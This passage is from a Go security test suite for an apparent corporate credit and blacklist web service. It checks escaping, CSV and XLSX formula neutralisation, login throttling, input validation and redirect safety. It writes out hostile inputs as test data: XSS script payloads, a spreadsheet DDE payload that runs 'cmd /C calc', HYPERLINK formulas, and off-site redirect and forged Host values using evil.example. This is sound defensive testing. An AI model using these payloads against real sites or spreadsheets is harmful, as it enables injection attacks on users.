			mustContain(t, res.Request.URL.String(), body, where...)
			if ct := res.Header.Get("Content-Type"); strings.HasPrefix(ct, "text/html") && !strings.Contains(res.Header.Get("Content-Security-Policy"), "script-src 'self'") {
				t.Errorf("%s: no CSP", res.Request.URL)
			}
		}
	}
	q := url.QueryEscape
	code := env.hcode
	cases := []hostileRequest{
		{name: "search results", path: "/search?q=" + q("恶意科技"), want: 200, check: page("&lt;script&gt;alert(&#34;name&#34;)&lt;/script&gt;")},
		{name: "search query echoed", path: "/search?q=" + q(`<script>alert("q")</script>`), want: 200, check: page("&lt;script&gt;alert(&#34;q&#34;)")},
		{name: "entity page", path: "/entities/" + code, want: 200, check: page(escapedName, "&lt;img src=x", "&#34;&gt;&lt;svg onload", "&lt;b onmouseover")},
		{name: "blacklist page", path: "/lists/blacklist", want: 200, check: page(escapedName)},
		{name: "list filter echoed", path: "/lists/blacklist?authority=" + q(xssAuth), want: 200, check: page("&lt;b onmouseover")},
		{name: "list name filter echoed", path: "/lists/blacklist?name=" + q(`"><script>alert(1)</script>`), want: 200, check: page()},
		{name: "statistics", path: "/stats?list=blacklist", want: 200, check: page()},
		{name: "credit report", path: "/entities/" + code + "/report", want: 200, check: page(escapedName)},
		{name: "objection form", path: "/objections/new?record=" + q(blacklist), want: 200, check: page(escapedName)},
		{name: "objection form, hostile record id", path: "/objections/new?record=" + q(`"><script>alert(1)</script>`), want: 404, check: page()},
		{name: "status page with the reviewer's reason", method: "POST", path: "/objections/" + filed.Tracking,
			header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, body: "check_code=" + filed.CheckCode, want: 200,
			check: page("&lt;script&gt;alert(&#34;reviewer&#34;)")},
		{name: "home page", path: "/", want: 200, check: page()},
		{name: "error page with markup in the path", path: "/nope/%3Cscript%3Ealert(1)%3C%2Fscript%3E", header: map[string]string{"Accept": "text/html"}, want: 404, check: page()},
		{name: "Atom feed of the list", path: "/feeds/blacklist.atom", want: 200, check: atomEscaped},
		{name: "Atom feed of the entity", path: "/feeds/entities/" + code + ".atom", want: 200, check: atomEscaped},
		{name: "Atom feed of a saved search", path: "/feeds/search.atom?q=" + q(`<script>alert("q")</script>恶意`), want: 200, check: atomEscaped},
		{name: "API search highlight", path: "/api/v1/search?q=" + q("恶意"), want: 200, check: func(t *testing.T, _ *http.Response, b []byte) {
			var r index.SearchResponse
			json.Unmarshal(b, &r)
			if len(r.Results) == 0 || strings.Contains(r.Results[0].Highlight, "<script") || !strings.Contains(r.Results[0].Highlight, "&lt;script&gt;") {
				t.Errorf("highlight is HTML and must be escaped: %+v", r.Results)
			}
		}},
		{name: "API answers are JSON, never sniffed as HTML", path: "/api/v1/entities/" + code, want: 200, check: func(t *testing.T, res *http.Response, b []byte) {
			if !strings.HasPrefix(res.Header.Get("Content-Type"), "application/json") || res.Header.Get("X-Content-Type-Options") != "nosniff" ||
				bytes.Contains(b, []byte("<script")) {
				t.Errorf("entity JSON: %v %.200s", res.Header, b)
			}
		}},
	}
	runHostile(t, env.base, nil, cases)
	runHostile(t, env.base, li, []hostileRequest{
		{name: "back-office queue", path: "/admin/", want: 200, check: page(escapedName)},
		{name: "back-office case with statement, contact and attachment names", path: "/admin/objections/" + filed.Tracking, want: 200,
			check: page("&lt;/textarea&gt;&lt;script&gt;alert(&#34;statement&#34;)", "&lt;script&gt;alert(&#34;person&#34;)", escapedName)},
		{name: "back-office queue with a hostile filter", path: "/admin/?state=" + q(`"><script>alert(1)</script>`), want: 200, check: page()},
	})
}

// atomEscaped checks that a feed is well-formed XML whose texts carry no live markup.
func atomEscaped(t *testing.T, res *http.Response, b []byte) {
	t.Helper()
	if !strings.HasPrefix(res.Header.Get("Content-Type"), "application/atom+xml") {
		t.Errorf("%s: content type %q", res.Request.URL, res.Header.Get("Content-Type"))
	}
	mustNotContain(t, res.Request.URL.String(), string(b), rawMarkup...)
	mustNotContain(t, res.Request.URL.String(), string(b), `type="html"`, `type="xhtml"`) // texts are plain text
	var doc atomDoc
	if err := xml.Unmarshal(b, &doc); err != nil {
		t.Errorf("%s: %v", res.Request.URL, err)
	}
}

// TestSecurityCSVInjection: cells a spreadsheet would run as formulas (= + - @ at the start)
// are neutralised in every CSV download, and XLSX cells are never formulas.
func TestSecurityCSVInjection(t *testing.T) {
	env := secServer(t, secOptions{limits: RateLimits{Off: true}, hostile: true})
	formula := regexp.MustCompile(`^[=+\-@\t\r]`)
	checkCells := func(where string, rows [][]string) {
		t.Helper()
		found := false
		for _, row := range rows {
			for _, cell := range row {
				found = found || strings.Contains(cell, "HYPERLINK")
				if formula.MatchString(cell) && !isNumber(cell) {
					t.Errorf("%s: cell %q would run as a formula", where, cell)
				}
			}
		}
		if !found {
			t.Errorf("%s: the formula-named entity is missing: %q", where, rows)
		}
	}
	for _, file := range []string{"/data/blacklist/latest/blacklist.csv.gz", "/data/entities/latest/entities.csv.gz"} {
		res, b := get(t, env.base+file)
		if res.StatusCode != 200 {
			t.Fatalf("%s: %d", file, res.StatusCode)
		}
		rows := gunzipCSV(t, b)
		checkCells(file, rows)
		// The JSON Lines file keeps the exact value.
		jl := strings.Replace(file, ".csv.gz", ".jsonl.gz", 1)
		if _, b := get(t, env.base+jl); !strings.Contains(gunzipString(t, b), `"entity_name":"=HYPERLINK`) {
			t.Errorf("%s lost the exact value", jl)
		}
	}
	for _, file := range []string{"/data/blacklist/latest/blacklist.xlsx", "/data/entities/latest/entities.xlsx"} {
		res, b := get(t, env.base+file)
		if res.StatusCode != 200 {
			t.Fatalf("%s: %d", file, res.StatusCode)
		}
		if xml := xlsxSheetXML(t, b); strings.Contains(xml, "<f>") || strings.Contains(xml, "<f ") || !strings.Contains(xml, "=HYPERLINK") {
			t.Errorf("%s: formula cells or missing name: %.300s", file, xml)
		}
	}
	// Screening: company names from the index and the uploaded list's own columns.
	list := "统一社会信用代码,企业名称,@客户编号\n" + env.fcode + ",,=1+2\n" + env.hcode + ",,-3+cmd|' /C calc'!A0\n,+厦门安泰,@SUM(A1)\n"
	res, b := upload(t, env.base+"/api/v1/screen?format=csv", "list.csv", []byte(list), nil)
	if res.StatusCode != 200 {
		t.Fatalf("screen CSV: %d %s", res.StatusCode, b)
	}
	checkCells("screening CSV", readCSV(t, b))
}

func isNumber(s string) bool {
	_, err := strconv.ParseFloat(s, 64)
	return err == nil
}

func gunzipString(t *testing.T, b []byte) string {
	t.Helper()
	gz, err := gzip.NewReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	out, _ := io.ReadAll(gz)
	return string(out)
}

// xlsxSheetXML returns the first worksheet's XML of a workbook.
func xlsxSheetXML(t *testing.T, b []byte) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	for _, f := range zr.File {
		if strings.HasPrefix(f.Name, "xl/worksheets/") || f.Name == "xl/sharedStrings.xml" {
			r, _ := f.Open()
			x, _ := io.ReadAll(r)
			r.Close()
			out.Write(x)
		}
	}
	return out.String()
}

// TestSecurityBruteForceLogin: wrong passwords from one client spend the login budget (429);
// wrong passwords for one account from many clients never keep its owner out: the right
// password from yet another client logs in.
func TestSecurityBruteForceLogin(t *testing.T) {
	env := secServer(t, secOptions{limits: RateLimits{Login: "5-M"}})
	ctx := context.Background()
	env.s.sqlStore().CreateUser(ctx, "li", store.RoleReviewer, "", "correct horse battery", "test")
	env.s.sqlStore().CreateUser(ctx, "wang", store.RoleReviewer, "", "correct horse battery", "test")
	login := func(c *http.Client, name, pw string) (code int, location string) {
		t.Helper()
		if c == nil {
			c = noRedirect
		}
		req, _ := http.NewRequest("POST", env.base+"/admin/login", strings.NewReader(url.Values{"name": {name}, "password": {pw}}.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		res, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, res.Body)
		res.Body.Close()
		if res.StatusCode == 429 && res.Header.Get("Retry-After") == "" {
			t.Errorf("429 without Retry-After")
		}
		return res.StatusCode, res.Header.Get("Location")
	}
	withRedirects := func(c *http.Client) *http.Client {
		c.CheckRedirect = noRedirect.CheckRedirect
		return c
	}
	// One client: five wrong passwords are answered 401, the sixth attempt 429, even with the
	// right password.
	one := withRedirects(clientFrom("127.0.0.2"))
	for i := 1; i <= 5; i++ {
		if code, _ := login(one, "wang", fmt.Sprintf("guess %d", i)); code != 401 {
			t.Errorf("wrong password %d: %d, want 401", i, code)
		}
	}
	if code, _ := login(one, "wang", "correct horse battery"); code != 429 {
		t.Errorf("sixth attempt from one client: %d, want 429", code)
	}
	// Many clients, one account: failures from elsewhere count against those clients only, so
	// nobody can lock a reviewer out by guessing at the account's password.
	for i := 0; i < 12; i++ {
		c := withRedirects(clientFrom(fmt.Sprintf("127.0.1.%d", i+1)))
		if code, _ := login(c, "li", fmt.Sprintf("guess %d", i)); code != 401 {
			t.Errorf("distributed guess %d: %d, want 401", i, code)
		}
	}
	if code, to := login(withRedirects(clientFrom("127.0.2.1")), "li", "correct horse battery"); code != 303 || to != "/admin/" {
		t.Errorf("right password after failures from other clients: %d to %q, want 303 to /admin/", code, to)
	}
	if code, to := login(withRedirects(clientFrom("127.0.2.2")), "wang", "correct horse battery"); code != 303 || to != "/admin/" {
		t.Errorf("another account from a fresh client: %d to %q, want 303 to /admin/", code, to)
	}
	n, err := env.s.sqlStore().VerifyAudit(ctx)
	if err != nil || n < 16 {
		t.Errorf("failed and throttled logins are audited: %d entries, %v", n, err)
	}
}

func newJar() http.CookieJar {
	jar, _ := cookiejar.New(nil)
	return jar
}

// TestSecurityBrokenTextOnPostgres: NUL bytes, control characters and broken UTF-8 in a form are
// refused per field (400) or taken for an unknown user (401) — PostgreSQL would fail on them,
// which used to make a 500 or 503 out of a client's mistake.
func TestSecurityBrokenTextOnPostgres(t *testing.T) {
	pgtemp.SkipIfShort(t)
	ctx := context.Background()
	pg, err := pgtemp.Start(ctx)
	if err != nil {
		t.Fatal(err) // never skip: a missing PostgreSQL must be seen
	}
	defer pg.Stop()
	env := secServer(t, secOptions{limits: RateLimits{Off: true}, db: pg.DSN})
	st := env.s.sqlStore()
	st.CreateUser(ctx, "li", store.RoleAdmin, "", "correct horse battery", "test")
	penalty := recordOf(t, env.base, huawei, "penalty")
	fieldError := func(field string) func(*testing.T, *http.Response, []byte) {
		return func(t *testing.T, res *http.Response, b []byte) {
			t.Helper()
			var e struct{ Fields map[string]string }
			if json.Unmarshal(b, &e) != nil || e.Fields[field] == "" {
				t.Errorf("want a field error for %s: %s", field, b)
			}
		}
	}
	filing := func(field, value string) string {
		f := validFiling(penalty)
		f[field] = value
		b, _ := json.Marshal(f)
		return string(b)
	}
	jsonPost := map[string]string{"Content-Type": "application/json"}
	cases := []hostileRequest{
		{name: "NUL in the statement", method: "POST", path: "/api/v1/objections", header: jsonPost, body: filing("statement", "理由\x00"), want: 400, check: fieldError("statement")},
		{name: "NUL in the contact person", method: "POST", path: "/api/v1/objections", header: jsonPost, body: filing("contact_person", "陈\x00明"), want: 400, check: fieldError("contact_person")},
		{name: "escape sequence in the applicant name", method: "POST", path: "/api/v1/objections", header: jsonPost, body: filing("applicant_name", "福州华威\x1b[2J新材料科技有限公司"), want: 400, check: fieldError("applicant_name")},
		{name: "broken UTF-8 in the statement (form)", method: "POST", path: "/objections/new", header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"},
			body: "record_id=" + url.QueryEscape(penalty) + "&kind=wrong&applicant_name=x&applicant_code=" + huawei + "&contact_person=x&contact_phone=13800000000&statement=%ff%fe", want: 400, check: htmlPage("无法识别的字符")},
		{name: "NUL in the login name", method: "POST", path: "/admin/login", header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"},
			body: "name=li%00&password=x", want: 401},
		{name: "broken UTF-8 in the login name", method: "POST", path: "/admin/login", header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"},
			body: "name=%ff" + strings.Repeat("李", 30) + "&password=x", want: 401},
		{name: "a long Chinese login name (audit cut at a character boundary)", method: "POST", path: "/admin/login", header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"},
			body: "name=" + strings.Repeat("李", 33) + "&password=x", want: 401},
	}
	runHostile(t, env.base, nil, cases)
	// The supplement form of a case in the store.
	filed := fileValid(t, env.base, penalty)
	runHostile(t, env.base, nil, []hostileRequest{
		{name: "NUL in a supplement", method: "POST", path: "/api/v1/objections/" + filed.Tracking + "/supplement",
			header: map[string]string{"Content-Type": "application/x-www-form-urlencoded", "X-Check-Code": filed.CheckCode},
			body:   "statement=%00", want: 400, check: fieldError("statement")},
	})
	// Every failed login was audited: the audit chain holds and has the long name's entry.
	if n, err := st.VerifyAudit(ctx); err != nil || n < 4 {
		t.Errorf("audit: %d entries, %v", n, err)
	}
}

// TestSecurityRedirectsAndHostHeader: no redirect leads off the site, and a forged Host header
// neither reaches a page as markup nor gets its links cached for everyone.
func TestSecurityRedirectsAndHostHeader(t *testing.T) {
	env := secServer(t, secOptions{limits: RateLimits{Off: true}, hostile: true})
	onSite := func(t *testing.T, res *http.Response, b []byte) {
		t.Helper()
		loc := res.Header.Get("Location")
		if loc != "" && (!strings.HasPrefix(loc, "/") || strings.HasPrefix(loc, "//") || strings.HasPrefix(loc, `/\`)) {
			t.Errorf("%s: redirect off the site to %q", res.Request.URL, loc)
		}
	}
	var cases []hostileRequest
	for _, h := range []struct {
		path   string
		header map[string]string
		want   int
	}{
		{"//evil.example/", nil, 404},
		{"/%2f%2fevil.example/", nil, 404},
		{"/search/", map[string]string{"X-Forwarded-Prefix": "//evil.example"}, 301},
		{"/search/", map[string]string{"X-Forwarded-Prefix": `/\evil.example`}, 301},
		{"/data/%2f%2fevil.example", nil, 404},
		{"/data/blacklist/%2f%2fevil.example", nil, 404},
		{"/entities/%2f%2fevil.example", nil, 404},
		{"/r/%2f%2fevil.example", nil, 404},
		{"/feeds/entities/%2f%2fevil.example.atom", nil, 404},
	} {
		cases = append(cases, hostileRequest{name: "redirect " + h.path, path: h.path, header: h.header, want: h.want, check: onSite})
	}
	cases = append(cases,
		hostileRequest{name: "forged Host on a feed", path: "/feeds/blacklist.atom", header: map[string]string{"Host": "evil.example"}, want: 200,
			check: func(t *testing.T, res *http.Response, b []byte) {
				if cc := res.Header.Get("Cache-Control"); !strings.HasPrefix(cc, "private") {
					t.Errorf("a feed whose links follow the Host header is cacheable by shared caches: %q", cc)
				}
			}},
		hostileRequest{name: "forged Host on the data page", path: "/data/", header: map[string]string{"Host": "evil.example", "Accept": "text/html"}, want: 200,
			check: func(t *testing.T, res *http.Response, b []byte) {
				if cc := res.Header.Get("Cache-Control"); strings.Contains(cc, "public") && bytes.Contains(b, []byte("evil.example")) {
					t.Errorf("a page showing the Host header is cacheable by shared caches: %q", cc)
				}
			}},
	)
	runHostile(t, env.base, nil, cases)
	if status := rawStatus(t, env.base, "GET /feeds/blacklist.atom HTTP/1.1\r\nHost: <script>alert(1)</script>\r\n\r\n"); status != "400" {
		t.Errorf("Host header with markup: %q, want 400", status)
	}
}

// filedCase is what filing answers: the tracking number and the private check code.
type filedCase struct {
	Tracking  string `json:"tracking_number"`
	CheckCode string `json:"check_code"`
}

// fileValid files a valid objection against the record and returns its tracking number and
// check code.
func fileValid(t *testing.T, base, recordID string) filedCase {
	t.Helper()
	res, body := postForm(t, base+"/api/v1/objections", validFiling(recordID), nil, nil)
	if res.StatusCode != 201 {
		t.Fatalf("file: %d %s", res.StatusCode, body)
	}
	var filed filedCase
	if err := json.Unmarshal(body, &filed); err != nil || filed.Tracking == "" {
		t.Fatalf("filing answer %s: %v", body, err)
	}
	return filed
}
